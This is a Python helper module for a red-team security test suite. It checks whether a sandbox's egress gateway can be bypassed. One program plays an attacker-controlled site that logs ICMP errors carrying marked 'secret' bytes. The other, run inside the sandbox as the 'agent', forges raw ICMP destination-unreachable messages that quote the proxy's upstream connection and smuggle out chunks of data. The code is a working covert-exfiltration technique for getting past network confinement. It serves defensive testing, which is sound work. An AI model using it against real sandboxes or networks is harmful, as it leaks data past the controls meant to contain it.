"""Programs of the second red team's ICMP module (tests/security/test_redteam_icmp_related.py).

The attacker's site (`site_main`, internet namespace, on an allowed name's addresses and port): answers every HTTP
request with the TCP port it sees the request come from (the gateway's proxy's upstream connection), keep-alive;
and raw ICMP and ICMPv6 receivers on the same host log every ICMP error that arrives with how many bytes of the
secret it carries (``icmp type T from SRC: N secret bytes``): ground truth of what crossed.

The agent (`related_main`, sandbox namespace): resolves the name, opens a connection to the site through the
gateway and asks it the proxy's source port; then, while that connection is open, sends ICMP destination
unreachable messages (raw socket) to the site's address that quote a packet of that upstream connection
(site → gateway, as if the sandbox had received it) followed by chunks of chosen data. Plain sockets.
"""

from __future__ import annotations

import socket
import struct
import sys
import threading
import time

MARK = b"5ec7e7-icmp-"
CHUNK = 1000
"""Bytes of chosen data per ICMP message."""


def checksum(data: bytes) -> int:
    """The Internet checksum (RFC 1071) of ``data``: ICMP, ICMPv6 with its pseudo-header, UDP, IPv4 headers."""
    if len(data) % 2:
        data += b"\0"
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    total += total >> 16
    return ~total & 0xFFFF


def quoted_error(inner_src: str, sport: int, inner_dst: str, dport: int, data: bytes) -> bytes:
    """An ICMP port unreachable quoting a TCP segment ``inner_src:sport`` → ``inner_dst:dport`` carrying ``data``."""
    segment = struct.pack("!HHIIBBHHH", sport, dport, 1, 0, 5 << 4, 0x18, 1000, 0, 0) + data
    header = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 20 + len(segment), 1, 0, 64, 6, 0,
        socket.inet_aton(inner_src), socket.inet_aton(inner_dst),
    )  # fmt: skip
    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
    message = struct.pack("!BBHI", 3, 3, 0, 0) + header + segment
    return message[:2] + struct.pack("!H", checksum(message)) + message[4:]


def quoted_error6(inner_src: str, sport: int, inner_dst: str, dport: int, data: bytes) -> bytes:
    """The ICMPv6 form (destination unreachable, port unreachable); the kernel fills in the checksum."""
    segment = struct.pack("!HHIIBBHHH", sport, dport, 1, 0, 5 << 4, 0x18, 1000, 0, 0) + data
    header = struct.pack("!IHBB", 6 << 28, len(segment), 6, 64)
    header += socket.inet_pton(socket.AF_INET6, inner_src) + socket.inet_pton(socket.AF_INET6, inner_dst)
    return struct.pack("!BBHI", 1, 4, 0, 0) + header + segment


def site_main() -> None:
    """``python -c '...site_main()' PORT ADDRESS...``: the attacker's site and its ICMP receivers (v4 and v6)."""
    port = int(sys.argv[1])
    threading.Thread(target=_icmp_receiver, args=(socket.AF_INET,), daemon=True).start()
    threading.Thread(target=_icmp_receiver, args=(socket.AF_INET6,), daemon=True).start()
    for address in sys.argv[2:]:
        listener = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET)
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        listener.bind((address, port))
        listener.listen(16)
        threading.Thread(target=_accept, args=(listener,), daemon=True).start()
    print("listening", flush=True)
    threading.Event().wait()


def _accept(listener: socket.socket) -> None:
    while True:
        conn, peer = listener.accept()
        threading.Thread(target=_answer_port, args=(conn, peer), daemon=True).start()


def _answer_port(conn: socket.socket, peer: tuple[str, int, int, int] | tuple[str, int]) -> None:
    with conn:
        buf = b""
        while True:
            data = conn.recv(4096)
            if not data:
                return
            buf += data
            while b"\r\n\r\n" in buf:
                _, buf = buf.split(b"\r\n\r\n", 1)
                body = f"{peer[0]} {peer[1]}".encode()
                conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body))
                print(f"asked by {peer[0]}:{peer[1]}", flush=True)


def _icmp_receiver(family: socket.AddressFamily) -> None:
    six = family == socket.AF_INET6
    raw = socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_ICMPV6 if six else socket.IPPROTO_ICMP)
    while True:
        packet, peer = raw.recvfrom(65535)
        kind = packet[0] if six else packet[(packet[0] & 0x0F) * 4]  # a raw IPv6 socket gets no IP header
        if kind in ((1, 2, 3, 4) if six else (3, 11, 12)):
            secret = packet.count(MARK) * len(MARK)
            print(f"icmp type {kind} from {peer[0]}: {len(packet)} bytes, {secret} secret bytes", flush=True)


def related_main() -> None:
    """``python -c '...related_main()' SITE PORT MESSAGES [PORT_OFFSET [CHUNK]]``: ask the site for the address and
    port the proxy's connection comes from, then send ``MESSAGES`` quoted errors to the site while the connection
    stays open (``PORT_OFFSET``: added to the port, a control whose quote matches no connection; ``CHUNK``: chosen
    bytes per error, default `CHUNK`)."""
    site, port, messages = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    offset = int(sys.argv[4]) if len(sys.argv) > 4 else 0
    chunk = int(sys.argv[5]) if len(sys.argv) > 5 else CHUNK
    six = ":" in site
    with socket.create_connection((site, port), timeout=5) as conn:
        conn.sendall(b"GET /port HTTP/1.1\r\nHost: allowed.lab\r\n\r\n")
        answer = conn.recv(4096)
        seen_from, seen_port = answer.split(b"\r\n\r\n", 1)[1].decode().split()
        print(f"the site sees {seen_from}:{seen_port}", flush=True)
        secret = (MARK * (chunk // len(MARK) + 1))[:chunk]
        family = socket.AF_INET6 if six else socket.AF_INET
        raw = socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_ICMPV6 if six else socket.IPPROTO_ICMP)
        quote = quoted_error6 if six else quoted_error
        for _ in range(messages):
            raw.sendto(quote(site, port, seen_from, int(seen_port) + offset, secret), (site, 0))
            time.sleep(0.01)
        print(f"sent {messages} errors of {chunk} chosen bytes", flush=True)
        time.sleep(1)
